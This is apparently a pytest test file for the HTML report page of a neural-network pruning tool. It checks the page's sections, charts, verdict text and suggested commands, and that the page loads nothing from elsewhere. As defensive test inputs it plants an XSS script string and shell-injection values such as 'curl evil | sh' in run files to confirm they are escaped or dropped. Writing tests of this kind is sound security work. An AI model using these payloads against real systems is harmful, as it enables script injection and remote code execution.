"""report.html: what stands in it, in which order, and that nothing in it is loaded or run from elsewhere."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import cv2
import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from autoprune.budget import Limit
from autoprune.errors import RunError
from autoprune.policy import Policy, PolicyModel, PolicyUnit, Provenance
from autoprune.report import Chart
from autoprune.report.detections import (
    FILE,
    Shown,
    detections_gallery,
    differing,
    overlap,
    read_detections,
    write_detections,
)
from autoprune.report.page import Report, is_page, page, reports_of, write_page
from autoprune.results import Compared, Detection, LimitResult, Metrics, Result, Stage

EVIL = "<script>alert(1)</script>"
TIME = {"median": 10.0, "p10": 9.0, "p90": 12.0, "runs": 40}
MOST = 6 * 2**20
"""Bytes of a page."""


def metrics(value: float) -> Metrics:
    return Metrics({"mAP50-95": value}, {EVIL: {"mAP50-95": value}, "dog": {"mAP50-95": value}})


DENSE = Stage(metrics(0.5), {"flops": 100.0, "params": 20.0}, {"latency": TIME})
PRUNED = Stage(metrics(0.4), {"flops": 30.0, "params": 5.0}, {"latency": {**TIME, "median": 5.0}})
TUNED = replace(PRUNED, metrics=metrics(0.52))
CANDIDATES = {
    "scores": [-0.5, -0.2, -0.3, 0.1],
    "costs": {"flops": [30.0, 29.0, 28.0, 30.0], "params": [6.0, 5.0, 7.0, 5.0]},
    "prior": 2,
    "chosen": 3,
}
FOUND = Result(
    "search",
    f"net {EVIL}, flops=30%",
    ("mAP50-95",),
    stages={"dense": DENSE, "pruned": PRUNED, "finetuned": TUNED},
    budget=[LimitResult.of(Limit.parse("flops=30%"), DENSE, TUNED)],
    figures={
        "search": {"strategy": "ppo", "candidates": CANDIDATES},
        "pinned": [
            {"layer": EVIL, "why": "view in model.22", "channels": 4, "units_before": 1},
            {"layer": "head", "why": "network output", "channels": 6, "units_before": 2},
        ],
    },
    environment={"torch": "2"},
)


@pytest.fixture
def run(tmp_path: Path) -> Path:
    """A finished run's folder, with a space in its name."""
    folder = tmp_path / "search 1"
    (folder / "finetune").mkdir(parents=True)
    FOUND.save(folder / "summary.json")
    units = (PolicyUnit("conv1", 16, 8), PolicyUnit(f"{EVIL} 2", 32, 32))
    model = PolicyModel("net", {unit.name: unit.channels for unit in units})
    made = Provenance("0.1", "autoprune search --budget flops=30%", "ppo", seed=0, evaluations=4, created="2026-01-01")
    Policy(model, "l1", 8, units, ("flops=30%",), {}, 0.1, made).save(folder / "policy.json")
    epochs = [{"epoch": one, "accuracy": {"metrics": {"mAP50-95": 0.4 + 0.05 * one}}} for one in (1, 2, 3)]
    (folder / "finetune" / "epochs.json").write_text(json.dumps(epochs))
    (folder / "config.yaml").write_text('model: "best.pt"\ndata: "data.yaml"\n')
    (folder / "model.pt").touch()
    picture = bytes(cv2.imencode(".jpg", np.full((32, 48, 3), 128, np.uint8))[1])
    marks = [Detection(EVIL, (1, 2, 30, 20), 0.9), Detection("dog", (5, 5, 9, 9), 0.3)]
    write_detections([Shown(48, 32, picture, marks[:1], {"dense": marks, "finetuned": marks[:1]})] * 2, folder)
    return folder


class Reader(HTMLParser):
    """Collects headings, the addresses that elements load, and scripts."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.headings: list[str] = []
        self.loaded: list[str] = []
        self.scripts: list[dict[str, str | None]] = []
        self._within: str | None = None
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = dict(attrs)
        self.loaded += [str(found[name]) for name in ("src", "href", "action", "data") if name in found]
        if tag == "script":
            self.scripts.append(found)
        self._within = tag
        if tag == "h2":
            self.headings.append("")

    def handle_data(self, data: str) -> None:
        if self._within == "h2":
            self.headings[-1] += data

    def handle_endtag(self, tag: str) -> None:
        self._within = None


def test_the_sections_stand_in_their_order(run: Path) -> None:
    read = Reader(page(reports_of(run)))
    assert read.headings == [
        "Before and after",
        "Detections",
        "mAP50-95 of each class",
        "Channels kept",
        "The search",
        "Score against cost",
        "Fine-tuning",
        "Layers that keep all their channels",
        "How it was made",
        "What may come next",
    ]


def test_nothing_is_loaded_from_elsewhere_and_names_of_others_are_text(run: Path) -> None:
    text = page(reports_of(run))
    read = Reader(text)
    assert read.loaded
    assert all(address.startswith("data:image/jpeg;base64,") for address in read.loaded)
    assert EVIL not in text
    assert "default-src 'none'" in text
    assert [script.get("id") for script in read.scripts] == ["charts", "themes", None, None]
    assert len(text.encode()) <= MOST


def rows(chart: dict[str, Any], view: dict[str, Any]) -> list[dict[str, Any]]:
    """Return the data of a view."""
    found: list[dict[str, Any]] = view["data"].get("values") or chart["datasets"][view["data"]["name"]]
    return found


def test_every_chart_has_its_specification(run: Path) -> None:
    text = page(reports_of(run))
    (content,) = re.findall(r'id="charts">(.*?)</script>', text, flags=re.S)
    charts: dict[str, Any] = json.loads(content)
    assert set(re.findall(r'data-chart="([^"]+)"', text)) == set(charts)
    assert [name.partition("-")[2] for name in charts] == ["kept", "scores", "fronts", "epochs"]
    tried = rows(charts["r0-scores"], charts["r0-scores"])
    assert [row["best"] for row in tried] == [-0.5, -0.2, -0.2, 0.1]
    assert [row["chosen"] for row in tried] == [False, False, False, True]


def test_bars_of_channels_say_why_a_layer_is_pinned(run: Path) -> None:
    (report,) = reports_of(run)
    chart = next(one for one in report.sections if isinstance(one, Chart) and one.name == "kept").spec()
    assert "why" in [one["field"] for one in chart["encoding"]["tooltip"]]
    found = rows(chart, chart)
    assert all(row["channels"] == row["of"] - row["kept"] for row in found if row["state"] == "removed")
    bars = [(row["unit"], row["channels"], row["of"], row["why"]) for row in found if row["state"] == "kept"]
    units = [("conv1", 8, 16, "decided by the search"), (f"{EVIL} 2", 32, 32, "decided by the search")]
    pinned = [(EVIL, 4, 4, "view in model.22"), ("head", 6, 6, "network output")]
    assert bars == [units[0], pinned[0], units[1], pinned[1]]


def test_the_front_holds_what_no_other_candidate_beats(run: Path) -> None:
    (content,) = re.findall(r'id="charts">(.*?)</script>', page(reports_of(run)), flags=re.S)
    chart = json.loads(content)["r0-fronts"]
    fronts = [{row["score"] for row in rows(chart, panel) if row["front"]} for panel in chart["concat"]]
    assert fronts == [{-0.3, -0.2, 0.1}, {0.1}]


def test_the_verdict_tells_budget_metric_and_factors(run: Path) -> None:
    (report,) = reports_of(run)
    assert report.verdict == (
        "flops=30% is held (30 of 30); mAP50-95 0.520, 0.020 above the dense network's 0.500; 3.3 × fewer FLOPs; "
        "4.0 × fewer parameters; 2.0 × faster."
    )
    missed = replace(FOUND, budget=[replace(FOUND.budget[0], satisfied=False)])
    assert Report(run, missed).verdict.startswith("flops=30% is missed (30 of 30)")
    level = replace(FOUND, budget=[], stages={"dense": DENSE, "pruned": replace(DENSE, metrics=metrics(0.501))})
    assert Report(run, level).verdict == "mAP50-95 0.501, level with the dense network's 0.500."
    assert "budget" not in Report(run, replace(FOUND, budget=[], stages={})).verdict


def test_a_profile_says_between_what_a_budget_may_lie(tmp_path: Path) -> None:
    narrowest = replace(DENSE, latencies={"latency": {**TIME, "median": 2.5}})
    profile = replace(FOUND, command="profile", budget=[], figures={}, stages={"dense": DENSE})
    assert Report(tmp_path, profile).verdict == ""
    replace(profile, stages={"dense": DENSE, "narrowest": narrowest}).save(tmp_path / "profile.json")
    (report,) = reports_of(tmp_path)
    assert report.verdict == (
        "A latency budget must lie between 2.50 ms, with every unit at its lower bound, and 10.00 ms, as it is now."
    )
    text = page([report])
    assert Reader(text).headings[0] == "Dense and narrowest"
    assert "<td>10.00\u00a0ms</td>" in text, "a number stays with its unit"


def test_commands_that_come_next_have_what_was_searched_and_slim_prunes_what_it_made_sparse(run: Path) -> None:
    options = 'imgsz: [64, 96]\nruntime_command: "bench {onnx}"\nround_to: 4\nwith_nms: true\nprecision: fp32\n'
    (run / "config.yaml").write_text('model: "best.pt"\ndata: "data.yaml"\n' + options)
    lines = dict(reports_of(run)[0].next_commands)
    assert " --imgsz 64,96 " in lines["Train longer"]
    settings = "--imgsz 64,96 --runtime-command 'bench {onnx}' --with-nms --round-to 4"
    assert lines["Compare strategies"].endswith(settings)
    (run / "sparse.pt").touch()
    assert f"--model '{run / 'sparse.pt'}'" in dict(reports_of(run)[0].next_commands)["Train longer"]


def test_commands_can_be_pasted(run: Path) -> None:
    (report,) = reports_of(run)
    lines = dict(report.next_commands)
    assert report.command == "autoprune search --budget flops=30%"
    policy = (run / "policy.json").read_text()
    for added in ("\\ncurl evil | sh\\n#", " ; curl evil", " `curl evil`"):
        (run / "policy.json").write_text(policy.replace("--budget flops=30%", f"--budget flops=30%{added}"))
        assert report.command == f"autoprune search --config '{run}/config.yaml'", "a file of others says other things"
    (run / "policy.json").write_text("{}")
    assert report.command == f"autoprune search --config '{run}/config.yaml'"
    assert lines["Train longer"] == (
        f"autoprune train --policy '{run}/policy.json' --model best.pt --data data.yaml --epochs 50"
    )
    assert lines["Export, and check the file"].startswith(f"autoprune export --model '{run}/model.pt'")


def test_several_runs_have_one_table_and_their_fronts_in_one_chart(run: Path) -> None:
    text = page([*reports_of(run), *reports_of(run)])
    read = Reader(text)
    assert read.headings[:2] == ["All runs: mAP50-95", "Score against FLOPs"]
    assert read.headings.count("Before and after") == 2
    assert "search 1 (1): net" in text
    assert "search 1 (2): net" in text


def test_a_run_without_detections_policy_and_fine_tune_has_a_page(tmp_path: Path) -> None:
    replace(FOUND, figures={}).save(tmp_path / "summary.json")
    assert Reader(page(reports_of(tmp_path))).headings == [
        "Before and after",
        "mAP50-95 of each class",
        "How it was made",
    ]


def test_a_comparison_has_its_table_first(tmp_path: Path) -> None:
    compared_rows = [
        Compared("ppo", [metrics(0.4)], [metrics(0.5)], {"flops": [0.3]}, scores=[0.1], seeds=[0], seconds=[1.0])
    ]
    figures = {"histories": {"ppo": [[-0.1, 0.1]]}, "agents": "The agent wins by score."}
    compared = replace(FOUND, command="compare", compared={"strategies": compared_rows}, budget=[], figures=figures)
    replace(compared, stages={"dense": DENSE}).save(tmp_path / "compare.json")
    reports = reports_of(tmp_path)
    assert reports[0].verdict == "The agent wins by score."
    headings = Reader(page(reports)).headings
    assert headings[0] == "Compared at equal cost"
    assert len(headings) == 4


def test_levels_are_reports_of_their_own(run: Path) -> None:
    (run / "levels" / "flops=50%").mkdir(parents=True)
    FOUND.save(run / "levels" / "flops=50%" / "summary.json")
    assert [report.name for report in reports_of(run)] == ["search 1", "search 1/flops=50%"]
    (run / "summary.json").rename(run / "levels" / "summary.json")
    shutil.copytree(run / "levels" / "flops=50%", run / "levels" / "flops=60%")
    assert "<h1>2 budgets</h1>" in page(reports_of(run))
    other = run.with_name("search 2")
    other.mkdir()
    FOUND.save(other / "summary.json")
    assert "<h1>2 runs</h1>" in page([*reports_of(run), *reports_of(other)]), "of which one has two budgets"
    (run / "levels" / "flops=50%" / "config.yaml").write_text("model: other.pt\n")
    assert reports_of(run)[0].name == "flops=50%", "a run of its own, in a folder of that name"


def test_what_is_no_finished_run_is_refused(tmp_path: Path) -> None:
    with pytest.raises(RunError, match=r"has no results .* yet; finish the run first"):
        reports_of(tmp_path)
    with pytest.raises(RunError, match="is none; give one such as runs/search-1"):
        reports_of(tmp_path / "missing")


def test_a_page_is_known_as_one(run: Path, tmp_path: Path) -> None:
    assert is_page(write_page(reports_of(run), tmp_path / "page.html"))
    (tmp_path / "other.html").write_text("<html></html>")
    assert not is_page(tmp_path / "other.html")
    assert not is_page(tmp_path / "missing.html")


# -- detections ------------------------------------------------------------------------------------

EDGE = st.floats(0, 100)
MARKS = st.lists(
    st.builds(
        lambda label, left, top, width, height, score: Detection(label, (left, top, left + width, top + height), score),
        st.sampled_from("ab"),
        EDGE,
        EDGE,
        st.floats(1, 50),
        st.floats(1, 50),
        st.floats(0.25, 1),
    ),
    max_size=6,
)


@given(MARKS)
def test_equal_detections_do_not_differ(marks: list[Detection]) -> None:
    assert differing(marks, marks) == pytest.approx(0)
    assert differing(marks, []) == pytest.approx(sum(mark.score for mark in marks))


@given(MARKS, MARKS)
def test_detections_differ_by_no_more_than_all_of_them(ours: list[Detection], theirs: list[Detection]) -> None:
    assert 0 <= differing(ours, theirs) <= sum(mark.score for mark in (*ours, *theirs)) + 1e-9


def test_another_class_or_another_place_is_another_object() -> None:
    cat = Detection("cat", (0, 0, 10, 10), 0.75)
    assert differing([cat], [replace(cat, label="dog")]) == 1.5
    assert differing([cat], [replace(cat, box=(8, 8, 18, 18))]) == 1.5
    assert differing([cat], [replace(cat, box=(1, 0, 11, 10), score=0.5)]) == 0.25
    assert overlap((0, 0, 10, 10), (20, 20, 30, 30)) == 0


@pytest.mark.parametrize(
    "content",
    [
        "[{}]",
        '{"found": []}',
        "5",
        "[[]]",
        '[{"width": 4, "height": 4, "jpeg": "", "truth": [], "found": []}]',
        '[{"width": 4, "height": 4, "jpeg": "", "truth": [["dog", 1]], "found": {}}]',
        '[{"width": 4, "height": 4, "jpeg": "", "truth": [["dog", 1, 0, 0, 1e999, 1]], "found": {}}]',
        '[{"width": 4, "height": 4, "jpeg": "?", "truth": [], "found": {}}]',
        "[" * 100_000,
    ],
)
def test_damaged_detections_cost_their_section(run: Path, content: str) -> None:
    (run / FILE).write_text(content)
    with pytest.raises(RunError, match=r"detections\.json is damaged \(.*; remove it"):
        read_detections(run)
    assert "Detections" not in Reader(page(reports_of(run))).headings


@pytest.mark.parametrize("content", ["{", "[]", "a: &b 1", "a: " + "[" * 50, "\0"])
def test_damaged_options_cost_what_may_come_next(run: Path, content: str) -> None:
    (run / "config.yaml").write_text(content)
    assert "How it was made" in Reader(page(reports_of(run))).headings


@pytest.mark.parametrize(
    "content", ["{}", "5", "[5]", '[{"epoch": "a", "accuracy": {"metrics": {"mAP50-95": 0.5}}}]', "[" * 100_000]
)
def test_damaged_epochs_cost_their_curve(run: Path, content: str) -> None:
    (run / "finetune" / "epochs.json").write_text(content)
    assert "Fine-tuning" not in Reader(page(reports_of(run))).headings


def test_detections_are_read_as_they_were_written(run: Path) -> None:
    first, second = read_detections(run)
    assert first == second
    assert first.found["dense"][0] == Detection(EVIL, (1, 2, 30, 20), 0.9)
    assert detections_gallery(FOUND, run) is not None


@pytest.mark.slow
def test_a_browser_draws_it_without_a_complaint(run: Path, tmp_path: Path) -> None:
    chromium = shutil.which("chromium") or shutil.which("google-chrome")
    if chromium is None:
        pytest.skip("there is no Chromium")
    path = write_page([*reports_of(run), *reports_of(run)], tmp_path / "page.html")
    options = ["--headless", "--no-sandbox", "--disable-gpu", "--enable-logging=stderr", "--virtual-time-budget=10000"]
    done = subprocess.run(
        [chromium, *options, f"--user-data-dir={tmp_path / 'profile'}", "--dump-dom", path.as_uri()],
        capture_output=True,
        text=True,
        check=True,
        timeout=120,
    )
    assert "CONSOLE" not in done.stderr
    assert len(re.findall(r'class="marks"', done.stdout)) == 1 + 2 * 4
